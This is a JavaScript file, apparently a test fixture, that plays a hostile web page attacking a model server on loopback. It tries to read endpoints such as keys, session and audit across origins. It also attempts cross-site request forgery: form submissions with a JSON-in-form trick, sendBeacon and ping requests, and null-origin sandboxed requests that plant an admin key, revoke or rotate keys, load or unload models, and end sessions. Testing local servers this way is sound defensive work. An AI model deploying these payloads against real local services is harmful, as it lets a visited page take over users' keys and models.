// What a page of another origin can try against a server on loopback; added to that page as a script.

const PATHS = [
  "/", "/docs", "/openapi.json", "/static/app.js", "/static/app.css", "/static/favicon.svg", "/v1/models", "/v1/models/m:1",
  "/api/v1/models", "/api/v1/models/catalog", "/api/v1/health", "/api/v1/session", "/api/v1/keys", "/api/v1/usage",
  "/api/v1/audit", "/api/v1/version", "/api/v1/foundry/status",
];
const QUESTION = { model: "m:1", messages: [{ role: "user", content: "drive-by" }], prompt: "drive-by" };
const CHANGES = [
  ["/v1/chat/completions", QUESTION],
  ["/v1/completions", QUESTION],
  ["/api/v1/generate", QUESTION],
  ["/api/v1/models/other:2/load", {}],
  ["/api/v1/models/m:1/unload", {}],
  ["/api/v1/models/far/download", {}],
  ["/api/v1/models/far/download/cancel", {}],
  ["/api/v1/keys", { name: "planted", scopes: ["admin"] }],
  ["/api/v1/keys/victim/revoke", {}],
  ["/api/v1/keys/victim/rotate", {}],
  ["/api/v1/session", { key: "KEY" }],
  ["/api/v1/session/links", {}],
];

/** Tries to read everything; returns what it got hold of. */
async function readAll(gateway) {
  const got = [];
  const attempt = (path, way, attempted) => attempted.then((found) => found && got.push([path, way, found]));
  const attempts = PATHS.flatMap((path) => [
    attempt(path, "cors", readBody(gateway + path, { credentials: "include" })),
    attempt(path, "no-cors", readBody(gateway + path, { mode: "no-cors", credentials: "include" })),
    attempt(path, "script", loads("script", "src", gateway + path)),
  ]);
  for (const path of ["/v1/models", "/static/favicon.svg", "/static/app.css"]) {
    attempts.push(
      attempt(path, "header", readBody(gateway + path, { headers: { authorization: "Bearer x" } })),
      attempt(path, "image", loads("img", "src", gateway + path)),
      attempt(path, "style", loads("link", "href", gateway + path)),
      attempt(path, "events", streams(gateway + path)),
      attempt(path, "socket", connects(gateway.replace("http", "ws") + path)),
    );
  }
  await Promise.all(attempts);
  return got;
}

async function readBody(url, options) {
  try {
    const answer = await fetch(url, options);
    return `${await answer.text()}${answer.status === 0 ? "" : answer.status}`;
  } catch {
    return "";
  }
}

function loads(tag, attribute, url) {
  const element = document.createElement(tag);
  if (tag === "link") {
    element.rel = "stylesheet";
  }
  return new Promise((resolve) => {
    element.onload = () => resolve(true);
    element.onerror = () => resolve(false);
    element[attribute] = url;
    document.body.append(element);
  });
}

function streams(url) {
  return new Promise((resolve) => {
    const source = new EventSource(url, { withCredentials: true });
    source.onopen = source.onmessage = () => resolve(true);
    source.onerror = () => {
      source.close();
      resolve(false);
    };
  });
}

function connects(url) {
  return new Promise((resolve) => {
    const socket = new WebSocket(url);
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
  });
}

/** Tries to change everything in every way that needs no permission, and in some that do. */
async function changeAll(gateway) {
  const attempts = CHANGES.flatMap(([path, content]) => {
    const url = gateway + path;
    const body = JSON.stringify(content);
    const simple = (type) => ({ method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": type }, body });
    navigator.sendBeacon(url, body);
    return [
      readBody(url, simple("text/plain")),
      readBody(url, { ...simple("application/x-www-form-urlencoded"), referrerPolicy: "no-referrer" }),
      readBody(`/redirect?to=${encodeURIComponent(url)}`, simple("text/plain")),
      readBody(url, { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body }),
      submits(url, "text/plain", content),
    ];
  });
  const [path, content] = CHANGES[3];
  pings(gateway + path);
  attempts.push(
    submits(gateway + path, "application/x-www-form-urlencoded", content),
    submits(gateway + path, "multipart/form-data", content, "noreferrer"),
    fromNowhere(gateway + path),
    readBody(`${gateway}/api/v1/session`, { method: "DELETE", credentials: "include" }),
  );
  await Promise.all(attempts);
}

function pings(url) {
  const link = document.createElement("a");
  link.href = "#";
  link.ping = url;
  document.body.append(link);
  link.click();
}

/** Submits a form whose text is the JSON: what follows the equals sign ends in a string that nobody reads. */
function submits(action, enctype, content, rel = "") {
  const frame = document.createElement("iframe");
  frame.name = `frame-${document.querySelectorAll("iframe").length}`;
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action, enctype, rel, target: frame.name });
  const field = document.createElement("input");
  field.name = JSON.stringify({ ...content, padding: "" }).slice(0, -2);
  field.value = '"}';
  form.append(field);
  document.body.append(frame, form);
  return new Promise((resolve) => {
    frame.addEventListener("load", () => frame.contentWindow !== null && resolve());
    form.submit();
  });
}

/** Asks from a sandbox, whose origin is "null". */
function fromNowhere(url) {
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts";
  frame.srcdoc = `<script>fetch(${JSON.stringify(url)}, { method: "POST", mode: "no-cors", body: "{}" })
    .catch(() => {}).finally(() => parent.postMessage("done", "*"))</` + "script>";
  return new Promise((resolve) => {
    addEventListener("message", resolve, { once: true });
    document.body.append(frame);
  });
}

/** Makes the server work by asking for what is read alone. */
async function wake(gateway) {
  const url = `${gateway}/api/v1/health?level=model`;
  await Promise.all([readBody(url, { mode: "no-cors" }), loads("img", "src", url), loads("script", "src", url), streams(url), connects(url.replace("http", "ws"))]);
}

/** Puts everything that can be read into frames of its own. */
async function frames(gateway) {
  await Promise.all(PATHS.map((path) => {
    const frame = document.createElement("iframe");
    frame.src = gateway + path;
    return new Promise((resolve) => {
      frame.onload = resolve;
      document.body.append(frame);
    });
  }));
}
